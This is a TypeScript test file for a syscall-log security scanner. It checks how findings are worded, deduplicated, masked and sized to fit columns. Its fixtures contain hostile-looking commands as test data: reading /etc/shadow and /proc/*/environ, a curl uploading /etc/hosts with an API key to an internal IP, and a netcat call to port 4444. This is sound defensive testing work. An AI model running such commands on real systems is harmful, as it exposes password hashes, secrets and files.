/** What `scan` prints: an act is told once, failures as failures, and nothing twice on a page. */
import { describe, expect, it } from 'vitest';
import { formatSarif } from '../../src/formats/sarif.js';
import { formatScan } from '../../src/formats/scan.js';
import { PLAIN, shortNames, tellingNames } from '../../src/formats/layout.js';
import { logOf } from '../../src/rule-tests.js';
import { readBuiltInRules, scan } from '../../src/scan.js';
import { chunked } from '../anomaly/scanning.js';

async function page(lines: readonly string[], width = 80, verbose = false): Promise<string> {
  const { report } = await scan(chunked(Buffer.from(logOf(lines.join('\n'))), 65_536), { inputFormat: 'glog' });
  return formatScan(report, { ...PLAIN, width }, { verbose });
}

const fork = (child: number): string => `[   1:   1] sh X vfork() = ${child} (0x${child}) (85µs)`;
const exec = (task: number, program: string, ...args: readonly string[]): string =>
  `[   ${task}:   ${task}] sh X execve(0x7f /usr/bin/${program}, 0x7f ["${[program, ...args].join('", "')}"], 0x7f ["HOME=/root", "PATH=/bin"]) = 0 (0x0) (300µs)`;
const open = (task: number, comm: string, path: string, result = '= 3 (0x3)'): string =>
  `[   ${task}:   ${task}] ${comm} X openat(AT_FDCWD /, 0x7f ${path}, O_RDONLY|0x0, 0o0) ${result} (30µs)`;
const DENIED = '= 0 (0x0) errno=13 (permission denied)';
const START = 'EXEC: [/bin/sh -c cat /etc/shadow]';

describe('documents of findings', () => {
  const SHADOW = [START, fork(2), exec(2, 'cat', '/etc/shadow')];
  it.each([
    ['failed', [open(2, 'cat', '/etc/shadow', DENIED)], 'Password hash file read (tried in vain)', /tried to read/],
    ['came about', [open(2, 'cat', '/etc/shadow')], 'Password hash file read', /^cat reads/],
    [
      'came about at last',
      [open(2, 'cat', '/etc/shadow', DENIED), open(2, 'cat', '/etc/shadow')],
      'Password hash file read',
      /^cat reads/,
    ],
  ])('say of a call that %s so', async (_, calls, title, said) => {
    const { report } = await scan(chunked(Buffer.from(logOf([...SHADOW, ...calls].join('\n'))), 65_536), {
      inputFormat: 'glog',
      only: ['shadow-read'],
    });
    expect(report.findings.map((one) => one.title)).toEqual([title]);
    const { runs } = JSON.parse(formatSarif(report)) as { runs: readonly Sarif[] };
    expect(runs[0]?.results[0]?.message.text).toMatch(said);
    expect(runs[0]?.tool.driver.rules[0]?.shortDescription.text).toBe('Password hash file read');
  });
});
type Sarif = {
  readonly results: readonly { readonly message: { readonly text: string } }[];
  readonly tool: {
    readonly driver: { readonly rules: readonly { readonly shortDescription: { readonly text: string } }[] };
  };
};

describe('a page of findings', () => {
  it('says of a call that failed what was tried, and why not', async () => {
    const text = await page([START, fork(2), exec(2, 'cat', '/etc/shadow'), open(2, 'cat', '/etc/shadow', DENIED)]);
    expect(text).toMatch(/^HIGH +cat tried to read \/etc\/shadow: EACCES$/m);
    expect(text).not.toMatch('cat reads');
  });

  it('says of a call that came about after others had failed that it did', async () => {
    const text = await page([
      START,
      fork(2),
      exec(2, 'cat', '/etc/shadow'),
      open(2, 'cat', '/etc/shadow', DENIED),
      open(2, 'cat', '/etc/shadow'),
    ]);
    expect(text).toMatch(/^HIGH +cat reads \/etc\/shadow$/m);
    expect(text).toMatch(/^ {2}Seen +2 times/m);
  });

  const TWO = [
    START,
    fork(2),
    exec(2, 'cat', '/proc/9/environ'),
    open(2, 'cat', '/proc/9/environ'),
    fork(3),
    exec(3, 'cat', '/proc/9/environ'),
    open(3, 'cat', '/proc/9/environ'),
    fork(4),
    exec(4, 'grep', 'x', '/proc/9/environ'),
    open(4, 'grep', '/proc/9/environ'),
  ];

  it('tells what several processes did once, with each of them', async () => {
    const text = await page(TWO);
    expect(text.match(/^HIGH .*/gm)).toHaveLength(2);
    expect(text).toMatch(/^ {2}Also +\/usr\/bin\/cat \(pid 3, /m);
  });

  it('gives the advice of a rule once, and quotes a record in full once', async () => {
    const text = await page(TWO, 60);
    expect(text.match(/^ {2}Next /gm)).toHaveLength(1);
    expect(text.match(/^ {2}Lawful /gm)).toHaveLength(1);
    expect(text).not.toMatch('***');
    expect(await page(TWO, 80, true), 'with --verbose').toMatch('HOME=***');
  });

  it('lists what is of low severity, be it one finding', async () => {
    const lines = [
      'EXEC: [/bin/sh -c kill 4]',
      fork(2),
      exec(2, 'sleep', '9'),
      fork(3),
      exec(3, 'curl', '-F', 'f=@/etc/hosts', '-H', 'X-Api-Key: sk-live-abcdef', 'http://10.1.2.3/'),
    ];
    const { report } = await scan(chunked(Buffer.from(logOf(lines.join('\n'))), 65_536), { inputFormat: 'glog' });
    const [one] = report.findings;
    expect(one?.cause).toMatch('X-Api-Key: *** http://10.1.2.3/');
    const low = { ...report, findings: [{ ...one, severity: 'low' as const, cause: 'sh did it' }] } as typeof report;
    const text = formatScan(low, PLAIN, { verbose: false });
    expect(text).toMatch(/^1 finding: 1 low /);
    expect(text).toMatch(/^low +upload-tool .*sh did it/m);
    expect(text).not.toMatch('Not shown');
  });

  it('leads what is allowed with how bad it is', async () => {
    const { report } = await scan(chunked(Buffer.from(logOf(START)), 65_536), { inputFormat: 'glog' });
    const allowed = (severity: 'high' | 'low'): object => ({
      rule: 'shadow-read',
      count: 2,
      reason: 'in the baseline: cat reads it',
      until: null,
      severity,
    });
    const excepted = [allowed('high'), allowed('high'), allowed('low')] as unknown as typeof report.excepted;
    const text = formatScan({ ...report, excepted }, PLAIN, { verbose: false });
    expect(text).toMatch(/^Allowed +2 high, 1 low in the baseline: shadow-read, 2 times: cat/m);
  });

  it('masks a command line in its sentence as in the list of arguments and in its record', async () => {
    const text = await page(
      [START, fork(2), exec(2, 'nc', '-w1', 'h', '4444', 'MYSQL_PWD=abc -pdef', 'API_MODE=ghi')],
      200,
      true,
    );
    expect(text).toMatch(/nc was started: .*API_MODE=\*\*\*/);
    expect(text).not.toMatch(/abc|def|ghi/);
  });

  it.each([60, 80, 140])('fits %i columns, and the overview says what happened', async (width) => {
    const text = await page(TWO, width);
    for (const line of text.split('\n')) expect(line.length, line).toBeLessThanOrEqual(width);
    expect(text).toMatch(/^high +proc-environ-read .*cat reads the en/m);
  });
});

it('the advice of no rule is cut in two', async () => {
  const rules = (await readBuiltInRules()).flatMap((file) => file.rules);
  expect(rules.length).toBeGreaterThan(80);
  for (const { id, look, false_positives } of rules) {
    for (const one of [...look, ...false_positives])
      expect(one, id).not.toMatch(/^(?:and|or|but|not|for|whether|which) /);
  }
});

it('logs of many folders are told apart by their folders', () => {
  const logs = ['web', 'db'].map((id) => `/l/${id}/runsc.log.20261126-184756.160519.boot.txt`);
  expect([...tellingNames(shortNames(logs), 24).values()]).toEqual(['web/boot', 'db/boot']);
  const long = [1, 2].map((n) => `/l/${'x'.repeat(20)}${n}/runsc.log.20261126-184756.16051${n}.boot.txt`);
  const cut = [...tellingNames(shortNames(long), 24).values()];
  expect(new Set(cut).size).toBe(2);
  expect(cut.every((name) => name.length <= 24)).toBe(true);
  expect([...tellingNames(shortNames(['/a/boot.log', '/b/gofer.log']), 24).values()]).toEqual([
    'boot.log',
    'gofer.log',
  ]);
});
